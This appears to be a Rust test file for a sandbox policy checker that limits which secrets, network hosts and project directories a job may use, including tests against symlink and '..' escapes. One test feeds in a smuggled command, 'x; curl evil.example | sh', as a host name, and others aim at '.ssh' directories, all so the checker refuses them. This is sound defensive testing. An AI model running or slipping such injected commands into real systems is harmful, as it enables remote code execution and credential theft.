use super::*;
use serde_json::json;

/// A policy allowing the given lists.
fn allowing(grants: &[&str], injects: &[&str], egress: &[&str]) -> Policy {
    let owned = |list: &[&str]| list.iter().map(|&item| item.to_owned()).collect();
    Policy {
        grants: owned(grants),
        injects: owned(injects),
        egress: owned(egress),
        ..Policy::default()
    }
}

/// A job with nothing more than a locked-down one.
fn queued() -> Job {
    let limits = corral_proto::Limits {
        memory_bytes: 1 << 30,
        cpu_shares: 1024,
        pids: 256,
        timeout_secs: 600,
        tmpfs_bytes: 1 << 28,
        max_llm_calls: 1,
        max_tokens: 1,
        max_iterations: 1,
        idle_timeout_secs: 1,
    };
    Job::queued(
        "j-0123456789abcdef".into(),
        corral_proto::JobMode::Exec,
        "x".into(),
        limits,
    )
}

fn error_of(policy: &Policy, spec: &Value) -> String {
    policy.check_spec(spec).expect_err(&spec.to_string())
}

#[test]
fn by_default_a_spec_gets_no_secret_no_egress_and_no_host_directory() {
    let none = Policy::default();
    assert_eq!(
        none.check_spec(&json!({"mode": "exec", "command": "ls"})),
        Ok(())
    );
    assert_eq!(
        none.check_spec(&json!({"egress": {}})),
        Ok(()),
        "no egress at all"
    );
    let inject = json!({"egress": {"allow": ["api.github.com"], "inject": [
        {"host": "api.github.com", "header": "Authorization", "secret": "GH_TOKEN"}]}});
    let refused = [
        (json!({"grants": [{"secret": "GH_TOKEN"}]}), "grants: "),
        (inject, "egress.inject: "),
        (json!({"egress": {"allow": ["pypi.org"]}}), "egress.allow: "),
        (json!({"project": "/"}), "project: "),
        (
            json!({"project": {"path": "/", "mode": "copy"}}),
            "project: ",
        ),
        (
            json!({"project": {"path": "/", "mode": "branch"}}),
            "project: ",
        ),
    ];
    for (spec, field) in refused {
        let error = error_of(&none, &spec);
        assert!(error.starts_with(field), "{spec}: {error}");
    }
}

#[test]
fn a_field_it_cannot_read_is_refused_naming_it() {
    let policy = allowing(&[ANY], &[ANY], &[ANY]);
    let unknown = json!({"egress": {"allow": ["pypi.org"], "allow_everything": true}});
    let error = error_of(&policy, &unknown);
    assert!(error.starts_with("egress"), "{error}");
    assert!(error.contains("allow_everything"), "{error}");
    let error = error_of(&policy, &json!({"grants": [{"secret": 7}]}));
    assert!(error.starts_with("grants[0].secret: "), "{error}");
}

#[test]
fn a_secret_goes_in_a_jobs_environment_or_to_one_host_only_as_allowed() {
    let policy = allowing(&["NPM_TOKEN"], &["GH_TOKEN@api.github.com"], &["pypi.org"]);
    let inject = |secret: &str, host: &str| {
        json!({"egress": {"allow": [host], "inject": [
            {"host": host, "header": "Authorization", "secret": secret}]}})
    };
    assert_eq!(
        policy.check_spec(&inject("GH_TOKEN", "API.github.com")),
        Ok(())
    );
    assert_eq!(
        policy.check_spec(&json!({"grants": [{"secret": "NPM_TOKEN", "env": "T"}]})),
        Ok(())
    );
    // Injected for its host only: not into the environment, not elsewhere.
    let error = error_of(&policy, &json!({"grants": [{"secret": "GH_TOKEN"}]}));
    assert!(
        error.starts_with("grants: ") && error.contains("`GH_TOKEN`"),
        "{error}"
    );
    let error = error_of(&policy, &inject("GH_TOKEN", "gist.example.com"));
    assert!(error.starts_with("egress.inject: "), "{error}");
    assert!(
        error_of(&policy, &inject("NPM_TOKEN", "api.github.com")).starts_with("egress.inject: ")
    );
    // The allowed injection's host alone, not another beside it.
    let more = json!({"egress": {"allow": ["api.github.com", "evil.example"], "inject": [
        {"host": "api.github.com", "header": "Authorization", "secret": "GH_TOKEN"}]}});
    let error = error_of(&policy, &more);
    assert!(
        error.starts_with("egress.allow: ") && error.contains("`evil.example`"),
        "{error}"
    );
    assert_eq!(
        policy.check_spec(&json!({"egress": {"allow": ["PyPI.org"]}})),
        Ok(())
    );
    // A wider pattern than the one allowed is another entry.
    assert!(
        policy
            .check_spec(&json!({"egress": {"allow": ["*.org"]}}))
            .is_err()
    );
    let any = allowing(&[ANY], &[ANY], &[ANY]);
    assert_eq!(any.check_spec(&more), Ok(()));
}

#[test]
fn a_project_must_lie_under_an_allowed_directory_resolved() {
    let home = tempfile::tempdir().expect("a directory");
    let allowed = home.path().join("src");
    let app = allowed.join("app");
    let dotfiles = home.path().join(".ssh");
    std::fs::create_dir_all(&app).expect("app");
    std::fs::create_dir_all(&dotfiles).expect("dotfiles");
    std::os::unix::fs::symlink(&dotfiles, allowed.join("keys")).expect("a link out");
    let path = |path: &std::path::Path| path.to_str().expect("utf-8").to_owned();
    let policy = Policy {
        projects: vec![allowed.clone()],
        ..Policy::default()
    };
    let copy = |dir: String| json!({"project": {"path": dir, "mode": "copy"}});
    assert_eq!(policy.check_spec(&copy(path(&app))), Ok(()));
    assert_eq!(policy.check_spec(&copy(path(&allowed))), Ok(()));
    for outside in [
        path(&dotfiles),
        path(&allowed.join("keys")),
        format!("{}/../.ssh", path(&allowed)),
        path(&allowed.join("missing")),
        format!("{}-other", path(&allowed)),
    ] {
        let error = error_of(&policy, &copy(outside.clone()));
        assert!(error.starts_with("project: "), "{outside}: {error}");
    }
    // Bound read-write only when that is allowed too.
    let error = error_of(&policy, &json!({"project": path(&app)}));
    assert!(error.contains("read-write"), "{error}");
    let binding = Policy {
        bind: true,
        ..policy
    };
    assert_eq!(binding.check_spec(&json!({"project": path(&app)})), Ok(()));
}

#[test]
fn a_name_that_is_not_a_plain_name_is_not_repeated() {
    let error = error_of(
        &Policy::default(),
        &json!({"egress": {"allow": ["x; curl evil.example | sh"]}}),
    );
    assert!(!error.contains("curl"), "{error}");
    assert!(error.contains("(a name with other characters)"), "{error}");
}

#[test]
fn a_job_made_outside_mcp_with_more_is_not_steered() {
    let queued = queued();
    assert_eq!(
        Policy::default().check_job(&queued),
        Ok(()),
        "a job with nothing more than a locked-down one"
    );
    let project = tempfile::tempdir().expect("a project");
    let job = Job {
        project: Some(project.path().to_str().expect("utf-8").to_owned()),
        project_mode: ProjectMode::Bind,
        grants: vec![corral_proto::job::Grant {
            secret: "GH_TOKEN".into(),
            env: "GH_TOKEN".into(),
        }],
        egress: Some(corral_proto::EgressPolicy {
            allow: vec!["api.github.com".into()],
            inject: Vec::new(),
            allow_ip_literals: false,
            max_connections: 1,
            max_bytes: 1,
        }),
        ..queued
    };
    let error = Policy::default().check_job(&job).unwrap_err();
    assert!(
        error.starts_with("grants: j-0123456789abcdef was made outside MCP"),
        "{error}"
    );
    let mut policy = allowing(&["GH_TOKEN"], &[], &[]);
    assert!(
        policy
            .check_job(&job)
            .unwrap_err()
            .starts_with("egress.allow: ")
    );
    policy.egress.push("api.github.com".into());
    assert!(policy.check_job(&job).unwrap_err().starts_with("project: "));
    policy.projects.push(project.path().to_owned());
    assert!(policy.check_job(&job).unwrap_err().contains("read-write"));
    policy.bind = true;
    assert_eq!(policy.check_job(&job), Ok(()));
}

#[test]
fn an_injection_is_a_secret_for_one_host_or_any() {
    for good in ["GH_TOKEN@api.github.com", ANY] {
        assert_eq!(
            allowing(&[], &[good], &[]).check_injects(),
            Ok(()),
            "{good}"
        );
    }
    for bad in [
        "GH_TOKEN",
        "@api.github.com",
        "GH_TOKEN@",
        "*@api.github.com",
        "GH@*",
        "A@b@c",
    ] {
        let error = allowing(&[], &[bad], &[]).check_injects().unwrap_err();
        assert!(error.contains("SECRET@HOST"), "{bad}: {error}");
    }
}

#[test]
fn a_stored_project_is_compared_as_the_server_resolved_it() {
    let home = tempfile::tempdir().expect("a directory");
    let allowed = home.path().join("src");
    let elsewhere = home.path().join("elsewhere");
    std::fs::create_dir_all(&allowed).expect("src");
    std::fs::create_dir_all(&elsewhere).expect("elsewhere");
    let policy = Policy {
        projects: vec![allowed.clone()],
        ..Policy::default()
    };
    let job_in = |project: &std::path::Path| Job {
        project: Some(project.to_str().expect("utf-8").to_owned()),
        project_mode: ProjectMode::Copy,
        ..queued()
    };
    // Its directory gone since: still the MCP's own job, to cancel.
    assert_eq!(policy.check_job(&job_in(&allowed.join("removed"))), Ok(()));
    // A link put there since into an allowed directory changes nothing.
    std::os::unix::fs::symlink(&allowed, elsewhere.join("in")).expect("a link");
    let error = policy
        .check_job(&job_in(&elsewhere.join("in")))
        .unwrap_err();
    assert!(error.starts_with("project: "), "{error}");
}

#[test]
fn the_server_is_asked_to_hold_a_project_to_the_allowed_directories_resolved() {
    let home = tempfile::tempdir().expect("a directory");
    let real = home.path().join("real");
    std::fs::create_dir(&real).expect("real");
    std::os::unix::fs::symlink(&real, home.path().join("alias")).expect("a link");
    let policy = Policy {
        projects: vec![home.path().join("alias"), home.path().join("missing")],
        ..Policy::default()
    };
    let resolved = std::fs::canonicalize(&real).expect("resolved");
    let resolved = resolved.to_str().expect("utf-8");
    let mut bound = json!({"project": "/p"});
    policy.bound_within(&mut bound).expect("a root to name");
    assert_eq!(
        bound,
        json!({"project": {"path": "/p", "mode": "bind", "within": [resolved]}})
    );
    let mut copied = json!({"project": {"path": "/p", "mode": "copy"}});
    policy.bound_within(&mut copied).expect("a root to name");
    assert_eq!(copied["project"]["within"], json!([resolved]));
    let mut none = json!({"command": "true"});
    policy.bound_within(&mut none).expect("no project");
    assert_eq!(none, json!({"command": "true"}));
    // No root left to name: refused, never sent as an empty list.
    let gone = Policy {
        projects: vec![home.path().join("missing")],
        ..Policy::default()
    };
    let mut spec = json!({"project": {"path": "/p", "mode": "copy"}});
    let error = gone.bound_within(&mut spec).unwrap_err();
    assert!(error.starts_with("project: "), "{error}");
}
